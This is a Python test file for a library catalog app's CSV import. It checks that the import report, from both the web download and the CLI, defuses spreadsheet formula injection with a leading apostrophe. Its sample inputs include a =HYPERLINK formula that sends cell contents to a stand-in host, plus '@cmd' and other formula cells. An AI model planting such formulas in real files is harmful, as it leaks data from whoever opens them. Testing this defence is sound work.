"""The import report echoes what the imported file held: a cell that a spreadsheet would run as a formula
(=, +, -, @ at its start) is written with a leading apostrophe, on the page's download and from the command."""

from __future__ import annotations

import csv
import io

from outreach.cli import outreach_group
from tests.conftest import post

HEADER = "資料番号,書名,資料種別\n"
EVIL = ['=HYPERLINK(""http://x.example/""&A1,""x"")', "+SUM(1+1)", "-2+3", "@cmd", "-4100-A"]
FILE = HEADER + "".join(f'"{b}",本,図書\n' for b in EVIL) + "4100000001,本,図書\n"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _barcodes(rows: list[list[str]]) -> list[str]:
    return [r[1] for r in rows[1:]]


def _expected() -> list[str]:
    raw = [b.replace('""', '"') for b in EVIL]
    return ["'" + b for b in raw] + ["4100000001"]


def test_the_downloaded_report_defuses_formulas(client, as_role, db):
    as_role("librarian")
    done = post(client, "/catalog/import", {"file": (io.BytesIO(FILE.encode()), "evil.csv")},
                form_url="/catalog/import", content_type="multipart/form-data")
    assert done.status_code == 302
    rows = _cells(client.get(done.headers["Location"] + "/report.csv").get_data(as_text=True))
    assert _barcodes(rows) == _expected()
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_the_commands_report_defuses_formulas(app, db, tmp_path):
    path = tmp_path / "evil.csv"
    path.write_text(FILE, encoding="utf-8")
    report = tmp_path / "report.csv"
    result = app.test_cli_runner().invoke(outreach_group, ["catalog", "import", str(path), "--report", str(report)])
    assert result.exit_code == 0, result.output
    rows = _cells(report.read_text(encoding="utf-8-sig"))
    assert _barcodes(rows) == _expected()
